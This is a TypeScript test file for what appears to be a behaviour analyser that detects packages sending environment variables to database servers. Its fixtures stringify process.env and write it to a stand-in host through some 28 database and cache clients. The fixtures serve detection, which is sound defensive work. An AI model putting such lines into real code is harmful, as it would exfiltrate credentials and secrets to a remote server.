import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../../test/behave.ts';

/** Ways to store `s` on a server, one each. */
const STORES = `
const { Pool } = require('pg'); new Pool({ connectionString: 'postgres://a.invalid/x' }).query('insert into x values ($1)', [s]);
const { Pool } = require('pg'); new Pool().connect().then(c => c.query('insert into x values ($1)', [s]));
const pgp = require('pg-promise')(); pgp('postgres://a.invalid/x').none('insert into x values ($1)', [s]);
const mysql = require('mysql2/promise'); mysql.createPool('mysql://a.invalid/x').execute('insert into x values (?)', [s]);
const mysql = require('mysql'); const c = mysql.createConnection({ host: 'a.invalid' }); c.query('insert into x set ?', { s });
const sql = require('mssql'); sql.connect('mssql://a.invalid').then(p => p.request().input('a', sql.VarChar, s).query('x'));
const { MongoClient } = require('mongodb'); new MongoClient('mongodb://a.invalid').db('x').collection('y').insertOne({ s });
const { MongoClient } = require('mongodb'); MongoClient.connect('mongodb://a.invalid').then(c => c.db('x').collection('y').updateOne({}, { $set: { s } }));
const mongoose = require('mongoose'); const M = mongoose.model('x', {}); mongoose.connect('mongodb://a.invalid'); M.create({ s });
const mongoose = require('mongoose'); const M = mongoose.model('x', {}); const one = new M({ s }); one.save();
const db = require('knex')({ client: 'pg', connection: 'postgres://a.invalid/x' }); db('y').insert({ s });
const db = require('knex')({ client: 'mysql2', connection: { host: 'a.invalid' } }); db('y').where({ a: 1 }).update({ s });
const { Sequelize } = require('sequelize'); const d = new Sequelize('postgres://a.invalid/x'); d.query('insert', { replacements: [s] });
const { Sequelize } = require('sequelize'); const M = new Sequelize('postgres://a.invalid/x').define('y', {}); M.create({ s });
const { DataSource } = require('typeorm'); const d = new DataSource({ type: 'postgres', host: 'a.invalid' }); d.getRepository('y').save({ s });
const { drizzle } = require('drizzle-orm/node-postgres'); drizzle('postgres://a.invalid').insert('y').values({ s });
const Redis = require('ioredis'); new Redis('redis://a.invalid').hset('x', 'y', s);
const Redis = require('ioredis'); new Redis('redis://a.invalid').pipeline().lpush('x', s).exec();
const { createClient } = require('redis'); const c = createClient({ url: 'redis://a.invalid' }); c.connect(); c.hSet('x', { s });
const { createClient } = require('redis'); createClient({ url: 'redis://a.invalid' }).connect().then(c => c.xAdd('x', '*', { s }));
const Memcached = require('memcached'); new Memcached('a.invalid:1').set('x', s, 1, () => {});
const { Client } = require('cassandra-driver'); new Client({ contactPoints: ['a.invalid'] }).execute('insert', [s]);
const { Client } = require('@elastic/elasticsearch'); new Client({ node: 'https://a.invalid' }).index({ index: 'x', document: { s } });
const { InfluxDB, Point } = require('@influxdata/influxdb-client'); new InfluxDB({ url: 'https://a.invalid' }).getWriteApi('o', 'b').writePoint(new Point('x').stringField('y', s));
const neo4j = require('neo4j-driver'); neo4j.driver('bolt://a.invalid').session().run('create (n {s: $s})', { s });
const { createClient } = require('@clickhouse/client'); createClient({ url: 'https://a.invalid' }).insert({ table: 'x', values: [{ s }] });
require('nano')('https://a.invalid').use('x').insert({ s });
const { Database } = require('arangojs'); new Database('https://a.invalid').collection('x').save({ s });
`;

describe('databases on a server', () => {
  for (const code of STORES.trim().split('\n'))
    it(`are told: ${code}`, () => {
      const { flows } = behaviourOf({ 'index.js': `const s = JSON.stringify(process.env); ${code}` });
      assert.ok(flows.some(({ from, to, as }) => from.kind === 'reads environment' && to.kind === 'connects' && as === 'content'));
    });

  for (const code of [
    `const db = require('knex')({ client: 'better-sqlite3', connection: { filename: 'a.db' } }); db('y').insert({ s });`,
    `const { DataSource } = require('typeorm'); const d = new DataSource({ type: 'sqlite', database: 'a.db' }); d.getRepository('y').save({ s });`,
  ])
    it(`are none where they are a file: ${code}`, () => {
      const { effects } = behaviourOf({ 'index.js': `const s = JSON.stringify(process.env); ${code}` });
      assert.ok(effects.every(({ kind }) => kind !== 'connects'));
    });

  for (const [code, server] of [
    [`const { Kafka } = require('kafkajs'); new Kafka({ brokers: ['a.invalid:9092'] });`, 'a.invalid:9092'],
    [`require('knex')({ client: 'pg', connection: { host: 'a.invalid' } });`, 'a.invalid'],
    [`const { Pool } = require('pg'); new Pool({ connectionString: 'postgres://a.invalid/x' });`, 'postgres://a.invalid/x'],
  ] as const)
    it(`are told their server: ${code}`, () => {
      assert.deepEqual(
        behaviourOf({ 'index.js': code }).effects.map(({ target }) => target),
        [server],
      );
    });
});
